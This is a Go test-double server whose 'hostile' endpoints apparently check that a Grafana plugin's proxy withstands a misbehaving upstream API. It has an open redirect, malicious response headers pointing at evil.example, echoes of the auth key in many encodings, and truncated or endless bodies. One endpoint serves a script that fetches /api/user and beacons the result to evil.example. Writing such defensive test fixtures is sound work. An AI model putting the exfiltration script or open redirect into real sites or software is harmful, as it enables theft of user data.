package upstreamdouble

// Hostile endpoints: an API that is out to get the proxy in front of it.
// Each one is a class of attack or fault a proxy must survive (redirects
// it should not follow, headers that act on the browser's origin, active
// content, echoed keys in many encodings and codings, bodies that break
// off); the plugin's integration tests call them through Grafana. All of
// them sit behind the key check like every other endpoint.

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http/httpguts"
)

// maxHostileSize bounds size= of /hostile/cut and /hostile/big.
const maxHostileSize = 256 << 20

func (s *Server) hostileRoutes(mux *http.ServeMux) {
	mux.HandleFunc("/hostile/redirect", s.handleHostileRedirect)
	mux.HandleFunc("GET /hostile/headers", s.handleHostileHeaders)
	mux.HandleFunc("GET /hostile/body", s.handleHostileBody)
	mux.HandleFunc("GET /hostile/echo-encoded", s.handleEchoEncoded)
	mux.HandleFunc("GET /hostile/encoded", s.handleEncoded)
	mux.HandleFunc("GET /hostile/cut", s.handleCut)
	mux.HandleFunc("GET /hostile/big", s.handleBig)
}

// handleHostileRedirect answers any method with status= (default 302) and
// the Location given in to=, byte for byte: an open redirect under whatever
// prefix the proxy allows.
func (s *Server) handleHostileRedirect(w http.ResponseWriter, r *http.Request) {
	status, err := strconv.Atoi(r.URL.Query().Get("status"))
	if r.URL.Query().Get("status") == "" {
		status, err = http.StatusFound, nil
	}
	if err != nil || status < 300 || status > 399 {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "status must be a 3xx code"})
		return
	}
	if to, ok := r.URL.Query()["to"]; ok {
		w.Header()["Location"] = to[:1]
	}
	w.WriteHeader(status)
}

// HostileHeaders are the headers /hostile/headers sets besides the echoes.
var HostileHeaders = map[string]string{
	"Clear-Site-Data":                  `"cache", "cookies", "storage", "executionContexts"`,
	"Access-Control-Allow-Origin":      "*",
	"Access-Control-Allow-Credentials": "true",
	"Strict-Transport-Security":        "max-age=63072000; includeSubDomains; preload",
	"Refresh":                          "0; url=https://evil.example/",
	"Link":                             "<https://evil.example/x.js>; rel=preload; as=script",
	"Alt-Svc":                          `h3="evil.example:443"; ma=86400`,
	"Content-Security-Policy":          "script-src * 'unsafe-inline'",
	"X-Frame-Options":                  "ALLOWALL",
	"Content-Disposition":              "inline",
	"Location":                         "https://evil.example/",
	"Report-To":                        `{"group":"x","max_age":1,"endpoints":[{"url":"https://evil.example/r"}]}`,
	"Nel":                              `{"report_to":"x","max_age":1}`,
	"Server-Timing":                    "evil;desc=1",
	"Set-Cookie":                       "hostile_session=1; Path=/; Secure",
	"Cache-Control":                    "public, max-age=31536000",
	"X-Ratelimit-Remaining":            "41",
}

// handleHostileHeaders sets HostileHeaders, echoes the received key header
// in a header value (X-Echo-Key) and, when the value is a valid header
// name, as a header name too.
func (s *Server) handleHostileHeaders(w http.ResponseWriter, r *http.Request) {
	for k, v := range HostileHeaders {
		w.Header().Set(k, v)
	}
	received := r.Header.Get(s.authHeader)
	w.Header().Set("X-Echo-Key", received)
	key := strings.TrimPrefix(received, s.authScheme+" ")
	if httpguts.ValidHeaderFieldName(key) {
		w.Header().Set(key, "1")
		w.Header().Set("X-"+key, "1")
	}
	writeJSON(w, http.StatusOK, map[string]bool{"hostile": true})
}

// handleHostileBody serves active content: type= sets the Content-Type
// (default text/html), with a script in the body.
func (s *Server) handleHostileBody(w http.ResponseWriter, r *http.Request) {
	ct := r.URL.Query().Get("type")
	if ct == "" {
		ct = "text/html; charset=utf-8"
	}
	w.Header().Set("Content-Type", ct)
	_, _ = w.Write([]byte(`<html><script>fetch("/api/user").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></html>`))
}

// echoEncodings is the received key header's value in the encodings an echo
// commonly takes.
func echoEncodings(value string) map[string]string {
	js, _ := json.Marshal(value)
	return map[string]string{
		"raw":       value,
		"json":      string(js[1 : len(js)-1]),
		"url":       url.QueryEscape(value),
		"base64":    base64.StdEncoding.EncodeToString([]byte(value)),
		"base64url": base64.RawURLEncoding.EncodeToString([]byte(value)),
		"hex":       hex.EncodeToString([]byte(value)),
		"basic":     "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+value)),
	}
}

// handleEchoEncoded answers JSON with the received key header's value in
// every encoding of echoEncodings; the value is JSON-escaped once more by
// the encoder, as any JSON API would.
func (s *Server) handleEchoEncoded(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, echoEncodings(r.Header.Get(s.authHeader)))
}

// handleEncoded echoes the received key header in a JSON body sent with
// Content-Encoding ce=: gzip, x-gzip, deflate, "gzip, gzip" are really
// encoded; any other value (br, zstd, ...) labels bytes it cannot be.
func (s *Server) handleEncoded(w http.ResponseWriter, r *http.Request) {
	body, _ := json.Marshal(map[string]string{"echo": r.Header.Get(s.authHeader)})
	ce := r.URL.Query().Get("ce")
	var out []byte
	switch ce {
	case "gzip", "x-gzip":
		out = gzipped(body)
	case "deflate":
		var b bytes.Buffer
		zw := zlib.NewWriter(&b)
		_, _ = zw.Write(body)
		_ = zw.Close()
		out = b.Bytes()
	case "raw-deflate":
		var b bytes.Buffer
		fw, _ := flate.NewWriter(&b, flate.BestSpeed)
		_, _ = fw.Write(body)
		_ = fw.Close()
		out, ce = b.Bytes(), "deflate"
	case "gzip, gzip":
		out = gzipped(gzipped(body))
	case "":
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "ce is required"})
		return
	default:
		out = append([]byte{0xce, 0xb2, 0x2f}, body...) // not what the label says
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Encoding", ce)
	_, _ = w.Write(out)
}

func gzipped(b []byte) []byte {
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	_, _ = zw.Write(b)
	_ = zw.Close()
	return out.Bytes()
}

// handleCut sends the first size= bytes of a JSON document that is never
// finished, then misbehaves by shape=: short (Content-Length promises
// 1000 bytes more, then the connection closes), chunk (a chunk is cut
// off), trickle (one byte every 200 ms until the client gives up; then the
// handler returns, which ends the chunked answer - a client whose deadline
// fired can read that as a clean end, docs/performance.md), grow
// (1 MiB a time, up to 256 MiB). type= sets the Content-Type (default JSON).
func (s *Server) handleCut(w http.ResponseWriter, r *http.Request) {
	size, err := strconv.Atoi(r.URL.Query().Get("size"))
	if err != nil || size < 16 || size > maxHostileSize {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "size must be a whole number from 16 to 268435456"})
		return
	}
	ct := r.URL.Query().Get("type")
	if ct == "" {
		ct = "application/json"
	}
	head := append([]byte(`{"data":"`), bytes.Repeat([]byte("x"), size-9)...)
	switch r.URL.Query().Get("shape") {
	case "short":
		conn, buf, ok := hijack(w)
		if !ok {
			return
		}
		defer conn.Close()
		fmt.Fprintf(buf, "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", ct, size+1000)
		_, _ = buf.Write(head)
		_ = buf.Flush()
	case "chunk":
		conn, buf, ok := hijack(w)
		if !ok {
			return
		}
		defer conn.Close()
		fmt.Fprintf(buf, "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n", ct, len(head))
		_, _ = buf.Write(head)
		_, _ = buf.WriteString("\r\n400\r\nonly the start of a 1024-byte chunk")
		_ = buf.Flush()
	case "trickle":
		w.Header().Set("Content-Type", ct)
		_, _ = w.Write(head)
		for flush(w); r.Context().Err() == nil; flush(w) {
			_, _ = w.Write([]byte("x"))
			select {
			case <-r.Context().Done():
			case <-time.After(200 * time.Millisecond):
			}
		}
	case "grow":
		w.Header().Set("Content-Type", ct)
		_, _ = w.Write(head)
		for i := 0; i < 256 && r.Context().Err() == nil; i++ {
			_, _ = w.Write(bytes.Repeat([]byte("x"), 1<<20))
			flush(w)
		}
	default:
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "shape must be short, chunk, trickle or grow"})
	}
}

// handleBig sends a whole JSON document of size= bytes (type= overrides the
// Content-Type), chunked, for the streaming path of a proxy.
func (s *Server) handleBig(w http.ResponseWriter, r *http.Request) {
	size, err := strconv.Atoi(r.URL.Query().Get("size"))
	if err != nil || size < 16 || size > maxHostileSize {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "size must be a whole number from 16 to 268435456"})
		return
	}
	ct := r.URL.Query().Get("type")
	if ct == "" {
		ct = "application/json"
	}
	w.Header().Set("Content-Type", ct)
	_, _ = w.Write([]byte(`{"data":"`))
	for left := size - 11; left > 0 && r.Context().Err() == nil; left -= hugeChunk {
		_, _ = w.Write(bytes.Repeat([]byte("x"), min(left, hugeChunk)))
		flush(w)
	}
	_, _ = w.Write([]byte(`"}`))
}

func hijack(w http.ResponseWriter) (interface{ Close() error }, *bufio.ReadWriter, bool) {
	h, ok := w.(http.Hijacker)
	if !ok {
		http.Error(w, "this connection cannot be taken over (HTTP/2)", http.StatusHTTPVersionNotSupported)
		return nil, nil, false
	}
	conn, buf, err := h.Hijack()
	if err != nil {
		return nil, nil, false
	}
	return conn, buf, true
}

func flush(w http.ResponseWriter) {
	if f, ok := w.(http.Flusher); ok {
		f.Flush()
	}
}
